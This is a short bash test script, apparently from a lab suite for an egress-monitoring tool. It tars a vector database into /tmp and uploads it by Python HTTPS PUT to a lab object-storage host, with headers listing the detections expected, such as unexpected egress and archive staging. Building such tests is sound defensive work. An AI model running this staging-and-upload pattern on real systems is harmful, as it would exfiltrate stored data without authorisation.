#!/bin/bash
# title: vector index tarred to /tmp, then uploaded at once to object storage with python
# expect-monitor: unexpected_egress cache_dump archive_staging
# expect-enforce: unexpected_egress archive_staging
# block: zero
# target: s3
source "$(dirname "$0")/../lib.sh"
in_cgroup vector-db sh -c "tar -cf /tmp/sluice-lab-vectors.tar -C $DATA vectors &&
  echo T0=\$(date +%s%3N) && exec $PY -c '
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile=\"$DATA/ca.pem\")
c = http.client.HTTPSConnection(\"s3.lab.internal\", 443, context=ctx, timeout=20)
c.request(\"PUT\", \"/backups/vectors.tar\", body=open(\"/tmp/sluice-lab-vectors.tar\", \"rb\").read())
print(\"upload:\", c.getresponse().status)
'"
echo "python exit $?"
rm -f /tmp/sluice-lab-vectors.tar
